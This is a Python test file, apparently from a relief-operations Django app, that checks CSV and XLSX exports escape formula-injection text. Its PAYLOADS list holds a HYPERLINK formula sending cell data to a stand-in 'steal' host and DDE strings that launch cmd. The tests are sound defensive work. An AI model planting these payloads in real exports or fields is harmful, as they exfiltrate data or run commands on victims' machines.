"""Exports neutralise formula injection: a text that a spreadsheet would run as a formula is written
so that it is shown as text, in CSV and in XLSX, whatever the text; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st

from reliefops.core.exports import Column, Table, csv_bytes, xlsx_bytes
from reliefops.core.roles import Role
from reliefops.households.models import Household
from tests.api.conftest import Reference
from tests.factories import make_user
from tests.households import permission_setup as hh

TABLE = Table(
    name="probe",
    columns=(
        Column("Name", "#org+name", "name"),
        Column("Quantity", "#output+num", "quantity"),
    ),
)
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://x.example/steal?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


# Text without control characters (XLSX stores those as `_xHHHH_` escapes, a matter of encoding).
PRINTABLE = st.characters(blacklist_categories=("Cc", "Cs"))


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@settings(max_examples=200, deadline=None)
@given(
    text=st.one_of(
        st.sampled_from(PAYLOADS),
        st.tuples(st.sampled_from(DANGEROUS_STARTS), st.text(PRINTABLE, max_size=30)).map("".join),
        st.text(PRINTABLE, max_size=30),
    ),
    quantity=st.integers(-(10**9), 10**9),
)
def test_no_exported_text_cell_starts_a_formula(text, quantity):
    # given a row whose text may look like a formula, and a number that may be negative
    rows = [{"name": text, "quantity": quantity}]
    # when it is exported as CSV and as XLSX
    csv_cells = _csv_rows(csv_bytes(TABLE, rows))[2]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(TABLE, rows))).active
    name, number = sheet.cell(row=3, column=1), sheet.cell(row=3, column=2)
    # then the CSV's text cell never starts a formula, and keeps the text after its apostrophe
    assert not csv_cells[0].startswith(DANGEROUS_STARTS)
    assert csv_cells[0] in {text, "'" + text}
    # and the CSV's number is the number, sign and all
    assert csv_cells[1] == str(quantity)
    # and the XLSX holds the text as a string cell (never a formula) and the number as a number
    if text:
        assert name.data_type == "s"
        assert name.value.replace("_x000D_", "\r") == text  # how xlsxwriter stores a carriage return
    assert number.data_type == "n"
    assert number.value == quantity


@pytest.mark.parametrize("payload", PAYLOADS[:3])
def test_the_households_export_neutralises_a_formula_in_a_name(client, reference: Reference, payload):
    # given a household whose head's name is a formula (typed by hand: importers refuse formulas)
    hh.a_household(reference)
    Household.objects.update(head_name=payload)
    client.force_login(make_user(Role.REGISTRAR, can_export=True))
    # when a registrar who may export personal data downloads the registry with names, as CSV
    response = client.get(reverse("households:registry-export") + "?personal=1")
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    cells = [c for row in _csv_rows(content) for c in row]
    # then the name is there, behind an apostrophe, and no cell starts a formula
    assert "'" + payload in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
